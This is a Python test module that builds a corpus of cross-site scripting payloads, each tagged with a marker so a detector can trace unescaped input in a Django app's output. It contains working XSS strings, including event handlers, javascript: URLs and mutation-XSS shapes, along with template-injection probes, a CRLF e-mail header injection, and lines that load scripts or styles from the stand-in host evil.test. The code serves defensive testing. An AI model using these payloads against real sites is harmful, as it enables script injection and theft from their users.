"""The XSS corpus: hostile strings, each carrying a marker that names the field it was
written into and the payload it came from.

A payload is a template with ``{m}`` where its marker goes. A marker is ``xk`` followed by
five digits: three for the field (its index in the inventory of free-text fields) and two
for the payload (its index here), e.g. ``xk01704`` is payload 4 in field 17. Markers are
lower-case letters and digits, so they survive HTML's case folding of tag and attribute
names and read the same in a tag name, an attribute name, an attribute value, a URL, a
script, a style sheet or a comment: wherever the detector finds one in a place that
markup, not text, occupies, it knows which field and which payload put it there.

The classes (``Payload.kind``): polyglots that break out of most contexts at once,
script elements, event-handler attributes, javascript:/data:/vbscript: URLs in links,
frames and forms, SVG and MathML (including known mutation-XSS shapes), attribute
breakouts with each kind of quote, breakouts from raw-text elements (script, style,
textarea, title, comments), template-engine syntax (Django, Jinja, JavaScript), tricks
for the Markdown renderer (kindred/core/markdown.py: links, images, autolinks, reference
definitions, titles, code spans, HTML blocks, tables), encoded and Unicode variants,
CSS and style injection, and CR/LF for e-mail headers. ``email`` payloads are valid
e-mail addresses (Django's validator accepts a quoted local part holding ``<`` and
``>``): they are what an EmailField may hold.

Written for Kindred; no payload list was copied.
"""

from __future__ import annotations

import re
from dataclasses import dataclass

MARKER_RE = re.compile(r"xk(\d{3})(\d{2})", re.IGNORECASE)
# A marker directly followed by 14 or 49 is a template expression that was evaluated
# (the payloads put ``{{ 7|add:7 }}`` or ``{{ 7*7 }}`` right after the marker).
EVALUATED_RE = re.compile(r"xk\d{5}(?:14|49)(?!\d)", re.IGNORECASE)


def marker(field: int, payload: int) -> str:
    if not (0 <= field < 1000 and 0 <= payload < 100):
        raise ValueError(f"marker out of range: field {field}, payload {payload}")
    return f"xk{field:03d}{payload:02d}"


def parse_marker(text: str) -> tuple[int, int] | None:
    found = MARKER_RE.fullmatch(text)
    return (int(found[1]), int(found[2])) if found else None


@dataclass(frozen=True)
class Payload:
    kind: str
    template: str
    # Where it is used: "text" for every free-text field, "email" for EmailFields only.
    use: str = "text"

    def render(self, field: int, index: int) -> str:
        return self.template.replace("{m}", marker(field, index))

    @property
    def length(self) -> int:
        return len(self.template) + 4 * self.template.count("{m}")  # "{m}": 7 characters


_P = Payload

PAYLOADS: tuple[Payload, ...] = (
    # Polyglots first: the packer always starts a value with the longest one that fits.
    _P("polyglot", "<{m}>"),
    _P("polyglot", "'\"><{m}>"),
    _P("polyglot", "javascript:/*'\"--></title></textarea></style></script><{m} {m}=1>"),
    # Script elements.
    _P("script", "<script>{m}()</script>"),
    _P("script", "<SCRIPT SRC=//evil.test/{m}.js></SCRIPT>"),
    _P("script", "<scr<script>ipt>{m}()</scr</script>ipt>"),
    _P("script", "<script type=module>import '//evil.test/{m}.js'</script>"),
    # Event handlers.
    _P("handler", "<img src=x onerror={m}()>"),
    _P("handler", "<svg onload={m}()>"),
    _P("handler", "<body onload={m}()>"),
    _P("handler", "<details open ontoggle={m}()>"),
    _P("handler", "<input autofocus onfocus={m}()>"),
    _P("handler", "<video><source onerror={m}()></video>"),
    _P("handler", "<img/src/onerror={m}()>"),
    _P("handler", "<img src=x onerror\n={m}()>"),
    _P("handler", '<a onclick="{m}()">click</a>'),
    _P("handler", '<div hx-on:click="{m}()" hx-get="/{m}">x</div>'),
    # URLs with script schemes, in links, frames, forms and objects.
    _P("url", "javascript:{m}()"),
    _P("url", '<a href="javascript:{m}()">x</a>'),
    _P("url", '<a href="  JaVaScRiPt:{m}()">x</a>'),
    _P("url", '<a href="jav&#x09;ascript:{m}()">x</a>'),
    _P("url", '<a href="data:text/html,<script>{m}()</script>">x</a>'),
    _P("url", '<iframe src="javascript:{m}()"></iframe>'),
    _P("url", '<iframe srcdoc="<script>{m}()</script>"></iframe>'),
    _P("url", '<form action="javascript:{m}()"><button>x</button></form>'),
    _P("url", '<button formaction="javascript:{m}()">x</button>'),
    _P("url", '<object data="javascript:{m}()"></object>'),
    _P("url", '<embed src="javascript:{m}()">'),
    _P("url", '<meta http-equiv="refresh" content="0;url=javascript:{m}()">'),
    _P("url", '<base href="https://evil.test/{m}/">'),
    _P("url", "data:text/html;base64,PHNjcmlwdD4=#{m}"),
    # SVG and MathML, including mutation-XSS shapes.
    _P("svg", "<svg><script>{m}()</script></svg>"),
    _P("svg", '<svg><a xlink:href="javascript:{m}()"><text>x</text></a></svg>'),
    _P("svg", "<svg><animate onbegin={m}() attributeName=x dur=1s>"),
    _P("svg", '<math><a xlink:href="javascript:{m}()">x</a></math>'),
    _P("svg", "<math><mtext><table><mglyph><style><img src=x onerror={m}()>"),
    _P("svg", '<noscript><p title="</noscript><img src=x onerror={m}()>">'),
    # Attribute breakouts.
    _P("attribute", '" onmouseover="{m}()'),
    _P("attribute", "' onmouseover='{m}()"),
    _P("attribute", '" autofocus onfocus="{m}()" x="'),
    _P("attribute", "` onmouseover=`{m}()`"),
    _P("attribute", '" {m}="1'),
    _P("attribute", "' {m}='1"),
    # Breaking out of raw-text elements and comments.
    _P("rawtext", "</script><script>{m}()</script>"),
    _P("rawtext", "';{m}();'\";{m}();\""),
    _P("rawtext", "</textarea><{m}>"),
    _P("rawtext", "</title><{m}>"),
    _P("rawtext", "--><{m}>"),
    _P("rawtext", "<!--{m}-->"),
    # Template engines: evaluated, the marker is followed by 14 or 49.
    _P("template", "{m}{{ 7|add:7 }}"),
    _P("template", "{m}{{7*7}}"),
    _P("template", "{m}${7*7}{% debug %}"),
    # Markdown (markdown-it with raw HTML off, then nh3).
    _P("markdown", "[click](javascript:{m}())"),
    _P("markdown", "[click](JAVASCRIPT:{m}())"),
    _P("markdown", "[click](jav&#x61;script:{m}())"),
    _P("markdown", "[click](data:text/html;base64,{m})"),
    _P("markdown", "[click](vbscript:{m})"),
    _P("markdown", "![pic](https://evil.test/{m}.png)"),
    _P("markdown", "<javascript:{m}()>"),
    _P("markdown", "[ref][{m}]\n\n[{m}]: javascript:{m}()"),
    _P("markdown", '[x](https://example.test/"onmouseover="{m}())'),
    _P("markdown", '[x](https://example.test "t\\" onmouseover=\\"{m}()")'),
    _P("markdown", "`<img src=x onerror={m}()>`"),
    _P("markdown", "<div>\n<img src=x onerror={m}()>\n</div>"),
    _P("markdown", "[<img src=x onerror={m}()>](https://example.test)"),
    _P("markdown", "| a |\n|---|\n| <script>{m}()</script> |"),
    # Encoded and Unicode variants.
    _P("encoded", "&lt;{m}&gt;&#60;img src=x onerror={m}()&#62;"),
    _P("encoded", "%3Cscript%3E{m}()%3C/script%3E"),
    _P("encoded", "\\u003cscript\\u003e{m}()\\u003c/script\\u003e"),
    _P("encoded", "\uff1cscript\uff1e{m}()\uff1c/script\uff1e"),
    _P("encoded", "\u202e<{m}>\u200b<\u200bscript>{m}()</script>"),
    _P("encoded", "+ADw-script+AD4-{m}()+ADw-/script+AD4-"),
    # CSS and style injection.
    _P("css", "<style>@import 'https://evil.test/{m}.css';</style>"),
    _P("css", '<div style="background:url(https://evil.test/{m})">x</div>'),
    _P("css", "</style><style>*{background:url(//evil.test/{m})}</style>"),
    _P("css", "x;background:url(//evil.test/{m});expression({m})"),
    # E-mail headers.
    _P("crlf", "x\r\nBcc: {m}@evil.test\r\n"),
    # Valid e-mail addresses (for EmailFields).
    _P("email", '"<{m}>"@example.test', use="email"),
    _P("email", '"\\"><{m}/{m}=1>"@example.test', use="email"),
    _P("email", "{m}'onmouseover='{m}@example.test", use="email"),
    # Valid URLs (for URLFields): Django's URLValidator takes any non-space after the host.
    _P("link", "https://example.test/'\"><{m}>", use="url"),
    _P("link", "https://example.test/?q='onmouseover='{m}()", use="url"),
    _P("link", 'https://example.test/#"><svg/onload={m}()>', use="url"),
)

if len(PAYLOADS) > 100:  # two marker digits
    raise RuntimeError("the corpus outgrew its markers")

TEXT_PAYLOADS: tuple[int, ...] = tuple(i for i, p in enumerate(PAYLOADS) if p.use == "text")
# For single-line fields (CharField): no payload with a line break, joined with spaces. A
# line break in a name is refused or breaks other formats (e-mail headers, calendar
# lines) rather than HTML; the e-mail check reports refused headers on its own.
LINE_PAYLOADS: tuple[int, ...] = tuple(
    i
    for i in TEXT_PAYLOADS
    if "\n" not in PAYLOADS[i].template and "\r" not in PAYLOADS[i].template
)
EMAIL_PAYLOADS: tuple[int, ...] = tuple(i for i, p in enumerate(PAYLOADS) if p.use == "email")
URL_PAYLOADS: tuple[int, ...] = tuple(i for i, p in enumerate(PAYLOADS) if p.use == "url")
POLYGLOTS: tuple[int, ...] = tuple(i for i, p in enumerate(PAYLOADS) if p.kind == "polyglot")
SEPARATOR = "\n\n"
LINE_SEPARATOR = " "


def pack(pool: tuple[int, ...], capacity: int | None, start: int) -> list[int]:
    """The payload indexes for one value: for the text and line pools, the longest
    polyglot that fits first, then the others in turn from ``start`` while they fit in
    ``capacity`` characters (``None``: no limit, so every payload); for the e-mail and
    URL pools, one payload (a value must stay one valid address). Empty when not even one
    fits."""
    room = capacity if capacity is not None else 1 << 30
    chosen: list[int] = []
    used = 0
    gap = len(LINE_SEPARATOR) if pool == LINE_PAYLOADS else len(SEPARATOR)

    def take(index: int) -> bool:
        nonlocal used
        extra = PAYLOADS[index].length + (gap if chosen else 0)
        if used + extra > room:
            return False
        chosen.append(index)
        used += extra
        return True

    if pool not in (TEXT_PAYLOADS, LINE_PAYLOADS):
        for offset in range(len(pool)):
            if take(pool[(start + offset) % len(pool)]):
                break
        return chosen
    for index in sorted(POLYGLOTS, key=lambda i: -PAYLOADS[i].length):
        if take(index):
            break
    for offset in range(len(pool)):
        index = pool[(start + offset) % len(pool)]
        if index not in chosen:
            take(index)
    return chosen


def value(field: int, indexes: list[int], *, line: bool = False) -> str:
    return (LINE_SEPARATOR if line else SEPARATOR).join(
        PAYLOADS[i].render(field, i) for i in indexes
    )
